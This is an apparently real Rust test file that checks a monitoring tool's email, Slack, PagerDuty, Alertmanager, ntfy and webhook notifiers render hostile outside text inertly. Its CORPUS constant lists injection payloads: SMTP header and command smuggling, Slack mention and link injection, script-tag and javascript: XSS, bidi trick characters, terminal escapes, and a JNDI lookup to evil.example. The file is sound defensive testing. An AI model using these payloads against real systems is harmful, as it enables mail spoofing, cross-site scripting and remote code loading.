//! Text from outside is inert in every sink.

use heygen_monitor::model::{Delivery, EventKind};
use heygen_monitor::notify::Notifier;
use heygen_monitor::simulator::smtp::{Script, SmtpServer};
use serde_json::Value;

use super::email::parsed;
use super::stub::{HttpStub, Seen};
use super::{
    alertmanager_channel, delivery, mail_channel, mail_target, message, now, ntfy_channel,
    pagerduty_channel, slack_bot_channel, slack_channel, webhook_channel,
};

/// What outside texts may try.
pub(crate) const CORPUS: [&str; 9] = [
    "x\r\nBcc: victim@example.net\r\n\r\nbody",
    "x\r.\rMAIL FROM:<evil@example.net>\r",
    "x\r\n.\r\nRCPT TO:<victim@example.net>\r\n",
    "<!channel> <@U012AB3CD> <https://evil.example|click here> <!here>",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}",
    "\u{1b}[31m\u{7}\u{0}\u{9b}",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n *bold* _it_ ~no~ `code` ```fence",
    "=?utf-8?q?=0D=0ABcc=3A_victim=40example.net?=",
];

/// A message in which every text from outside is hostile.
fn hostile(text: &str) -> Delivery {
    let mut message = message(EventKind::Opened);
    text.clone_into(&mut message.headline);
    text.clone_into(&mut message.vantage);
    text.clone_into(&mut message.account);
    message.notes = vec![text.to_owned()];
    let incident = message.incident.as_mut().unwrap();
    text.clone_into(&mut incident.subject);
    text.clone_into(&mut message.advice.as_mut().unwrap().text);
    message.official.as_mut().unwrap().notice = Some(text.to_owned());
    let item = &mut message.evidence[0];
    text.clone_into(&mut item.probe);
    text.clone_into(&mut item.text);
    let detail = &mut item.detail;
    for field in [&mut detail.message, &mut detail.code, &mut detail.param, &mut detail.request_id]
    {
        *field = Some(text.to_owned());
    }
    detail.job_id = Some(text.to_owned());
    detail.doc_url = Some(format!("javascript:alert('{text}')"));
    Delivery { channel: text.to_owned(), ..delivery(message) }
}

pub(crate) fn is_trick(letter: char) -> bool {
    matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[tokio::test]
async fn hostile_text_cannot_leave_its_place_in_a_mail() {
    let server = SmtpServer::start(Script::default()).await.unwrap();
    let channel = mail_channel(mail_target(server.address().port()));
    let huge = "A".repeat(1_000_000);
    let corpus: Vec<&str> = CORPUS.into_iter().chain([huge.as_str()]).collect();
    for (text, count) in corpus.iter().zip(1..) {
        channel.send(&hostile(text), now()).await;
        let mails = server.mails();
        assert_eq!(mails.len(), count, "{text:.60} was one mail");
        let mail = &mails[count - 1];
        assert_eq!(mail.to, ["oncall@example.org"]);
        assert!(mail.wire.len() < 100_000, "{} bytes", mail.wire.len());

        let wire = String::from_utf8(mail.wire.clone()).unwrap();
        assert_eq!(wire.matches('\r').count(), wire.matches("\r\n").count(), "no bare CR");
        assert_eq!(wire.matches('\n').count(), wire.matches("\r\n").count(), "no bare LF");
        assert!(!wire.contains("\r\n.\r\n"), "no lone dot");
        assert!(wire.lines().all(|line| line.len() <= 998), "no overlong line");

        let mail = parsed(mail);
        assert!(mail.bcc().is_none() && mail.cc().is_none(), "{text:.60}");
        assert_eq!(mail.to().unwrap().iter().count(), 1);
        let subject = mail.subject().unwrap();
        assert!(subject.chars().count() <= 150, "{subject}");
        let (text, html) = (mail.body_text(0).unwrap(), mail.body_html(0).unwrap());
        for shown in [subject, &text, &html] {
            assert!(!shown.chars().any(is_trick), "{shown}");
            assert!(!shown.contains(['\u{1b}', '\u{0}', '\u{7}', '\u{9b}']), "{shown}");
        }
        assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
        assert!(!html.contains("href=\"javascript"), "{html}");
        assert!(!text.contains("javascript:"), "{text}");
    }
}

#[tokio::test]
async fn hostile_text_becomes_neither_mention_nor_link_in_slack() {
    let stub = HttpStub::start([]).await;
    let channel = slack_channel(&stub.url);
    for text in CORPUS {
        let requests = sent(channel.as_ref(), &stub, text).await;
        let [payload] = requests.as_slice() else { panic!("{text}: {requests:?}") };
        for shown in strings(payload) {
            let without_own =
                shown.replace("<!date^", "").replace("<https://status.example.org/", "");
            assert!(!without_own.contains('<'), "{shown}");
            assert!(!shown.chars().any(is_trick), "{shown}");
        }
        for block in payload["blocks"].as_array().unwrap() {
            if block["text"]["type"] == "mrkdwn" {
                assert!(!block.to_string().contains("bold"), "{block}");
            }
        }
        assert_eq!(payload["mrkdwn"], false, "the fallback is not formatted");
    }
}

/// Every text of every request that a channel makes of hostile text, and how many lines ours has
/// when the text is harmless.
async fn sent(channel: &dyn Notifier, stub: &HttpStub, text: &str) -> Vec<Value> {
    let before = stub.seen().len();
    channel.send(&hostile(text), now()).await;
    let seen = stub.seen();
    assert!(seen.len() > before, "{text:.60}: nothing was sent");
    seen.iter().skip(before).map(Seen::json).collect()
}

/// The shape of a JSON value: its keys and lengths, without its texts.
fn shape(value: &Value) -> Value {
    match value {
        Value::Object(fields) => {
            fields.iter().map(|(name, value)| (name.clone(), shape(value))).collect()
        }
        Value::Array(items) => items.iter().map(shape).collect(),
        Value::String(text) => Value::from(text.lines().count()),
        other => other.clone(),
    }
}

#[tokio::test]
async fn hostile_text_stays_one_text_in_its_field_on_every_other_channel() {
    let stub = HttpStub::start([]).await;
    let url = stub.url.as_str();
    let channels = [
        ("slack bot", slack_bot_channel(url)),
        ("alertmanager", alertmanager_channel(&[url])),
        ("pagerduty", pagerduty_channel(url)),
        ("ntfy", ntfy_channel(url)),
    ];
    let huge = "A".repeat(1_000_000);
    for (name, channel) in channels {
        let harmless = sent(channel.as_ref(), &stub, "harmless").await;
        let shapes: Vec<Value> = harmless.iter().map(shape).collect();
        for text in CORPUS.into_iter().chain([huge.as_str()]) {
            let requests = sent(channel.as_ref(), &stub, text).await;
            let now: Vec<Value> = requests.iter().map(shape).collect();
            // The long one needs a block more for what does not fit into the header.
            if name != "slack bot" {
                assert_eq!(now, shapes, "{name}: {text:.60}");
            }
            for shown in requests.iter().flat_map(strings) {
                assert!(!shown.chars().any(is_trick), "{name}: {shown}");
                assert!(!shown.contains(['\u{1b}', '\u{0}', '\u{7}', '\u{9b}', '\r']), "{shown}");
                assert!(shown.len() < 16_000, "{name}: {} bytes", shown.len());
                assert!(!shown.contains("javascript:"), "{name}: {shown}");
            }
            let links = requests.iter().flat_map(strings).filter(|one| one.starts_with("https://"));
            for link in links {
                assert_eq!(link, "https://status.example.org/incidents/42", "{name}");
            }
        }
    }
}

#[tokio::test]
async fn hostile_text_becomes_no_mention_in_slack_by_token() {
    let stub = HttpStub::start([]).await;
    let channel = slack_bot_channel(&stub.url);
    for text in CORPUS {
        for shown in sent(channel.as_ref(), &stub, text).await.iter().flat_map(strings) {
            let own = shown.replace("<!date^", "").replace("<https://status.example.org/", "");
            assert!(!own.contains('<'), "{shown}");
        }
    }
}

#[tokio::test]
async fn a_webhook_hands_hostile_text_on_as_it_is_and_where_it_belongs() {
    let stub = HttpStub::start([]).await;
    let channel = webhook_channel(&stub.url);
    for text in CORPUS {
        let body = &sent(channel.as_ref(), &stub, text).await[0];
        for place in ["/headline", "/vantage", "/incident/subject", "/evidence/0/message"] {
            assert_eq!(body.pointer(place).unwrap(), text, "{place}");
        }
        assert_eq!(body["links"]["incident"], "https://status.example.org/incidents/42");
        let names: Vec<_> = body.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(names.len(), 18, "{names:?}");
    }
}

fn strings(value: &serde_json::Value) -> Vec<String> {
    match value {
        serde_json::Value::String(text) => vec![text.clone()],
        serde_json::Value::Array(items) => items.iter().flat_map(strings).collect(),
        serde_json::Value::Object(fields) => fields.values().flat_map(strings).collect(),
        _ => Vec::new(),
    }
}
